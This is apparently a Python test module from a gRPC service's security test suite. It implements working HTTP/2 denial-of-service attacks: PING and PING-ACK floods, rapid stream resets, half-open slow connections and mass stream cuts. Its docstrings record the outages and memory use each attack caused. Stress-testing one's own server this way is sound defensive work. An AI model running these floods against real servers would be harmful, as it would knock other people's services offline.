"""Attacks on HTTP/2 itself, and on the number of connections."""

from __future__ import annotations

import asyncio
import time
from contextlib import suppress

from hpack import Encoder
from hyperframe.frame import Frame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from tests.attacks.attack import Target
from tests.attacks.memory import SERVICE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame().serialize()
SECONDS = 4.0


async def pings(target: Target, count: int) -> None:
    """Sends as many PINGs on one connection, 20,000 a second.

    It froze the server in 4 of 8 runs, for 12 to 20 s after its end.
    """
    burst = PingFrame(opaque_data=bytes(8)).serialize() * 1_000
    sent = 0
    while sent < count:
        reader, writer = await _connected(target.address)
        reading = asyncio.create_task(_drop(reader))
        with suppress(OSError):
            while sent < count and not reading.done():
                writer.write(burst)
                await writer.drain()
                sent += 1_000
                await asyncio.sleep(0.05)
        reading.cancel()
        writer.transport.abort()
        sent += 1_000  # also if the server ends every connection at once


async def pings_unread(target: Target, count: int) -> None:
    """Sends megabytes of PINGs, as fast as the server takes them, and reads no answer.

    An outage of 7 s: gRPC copied a growing list of complaints for each PING.
    """
    _, writer = await _connected(target.address)
    await _send_frames(writer, PingFrame(opaque_data=bytes(8)), count)


async def answers_unasked(target: Target, count: int) -> None:
    """Sends megabytes of answers to PINGs that were never sent, as fast as the server takes them.

    gRPC has nothing to do for them: an outage for as long as they came.
    """
    _, writer = await _connected(target.address)
    await _send_frames(writer, PingFrame(opaque_data=bytes(8), flags=["ACK"]), count)


async def _send_frames(writer: asyncio.StreamWriter, frame: Frame, megabytes: int) -> None:
    burst = frame.serialize() * (2**20 // 17)
    with suppress(OSError, TimeoutError):
        async with asyncio.timeout(SECONDS):
            for _ in range(megabytes):
                writer.write(burst)
                await writer.drain()
    writer.transport.abort()


async def resets(target: Target, count: int) -> None:
    """Begins as many calls and resets each at once, as fast as the server takes them.

    100,000 of them were an outage of 32 s and 790 MiB.
    """
    block = _headers_of_a_call()
    stream = 1
    for _ in range(0, count, 1_000):
        if stream == 1:
            reader, writer = await _connected(target.address)
            reading = asyncio.create_task(_drop(reader))
        parts = []
        for _ in range(1_000):
            begin = HeadersFrame(stream, block, flags=["END_HEADERS"])
            parts += [begin.serialize(), RstStreamFrame(stream, 8).serialize()]
            stream += 2
        with suppress(OSError):
            writer.write(b"".join(parts))
            await writer.drain()
        if reading.done():
            stream = 1
            writer.transport.abort()
    await asyncio.sleep(1)


async def connections_left_half_open(target: Target, count: int) -> None:
    """Opens as many connections, says nothing on half of them and a byte a second on the others.

    It held.
    """
    opened = []
    for _ in range(count):
        with suppress(OSError):
            opened.append(await _connected(target.address, preface=b""))
    end = time.monotonic() + SECONDS
    place = 0
    while time.monotonic() < end:
        for _, writer in opened[::2]:
            with suppress(OSError):
                writer.write(PREFACE[place : place + 1])
        place += 1
        await asyncio.sleep(1)
    for _, writer in opened:
        writer.transport.abort()


async def streams_lost_at_once(target: Target, count: int) -> None:
    """Opens 100 streams on each of as many connections, twice, and cuts all of them at once.

    Each connection that was lost ended 8 streams in a turn of the loop: a step waited for 0.26 s.
    """
    block = _headers_of_a_call()
    begin = [HeadersFrame(2 * n + 1, block, flags=["END_HEADERS"]).serialize() for n in range(100)]
    for _ in range(2):
        opened = [await _connected(target.address) for _ in range(count)]
        for _, writer in opened:
            writer.write(b"".join(begin))
            await asyncio.sleep(0.02)
        await asyncio.sleep(0.5)
        for _, writer in opened:
            writer.transport.abort()
        await asyncio.sleep(1)


def _headers_of_a_call() -> bytes:
    """The header block of a stream of steps; it stands alone."""
    plain = [(":method", "POST"), (":scheme", "http"), (":path", f"{SERVICE}/StreamSteps")]
    plain += [(":authority", "x"), ("te", "trailers"), ("content-type", "application/grpc")]
    encoder = Encoder()
    encoder.header_table_size = 0
    return encoder.encode(plain)


async def _connected(
    address: str, preface: bytes = PREFACE
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(preface)
    return reader, writer


async def _drop(reader: asyncio.StreamReader) -> None:
    """Reads until the server ends the connection."""
    with suppress(OSError):
        while await reader.read(2**18):
            pass
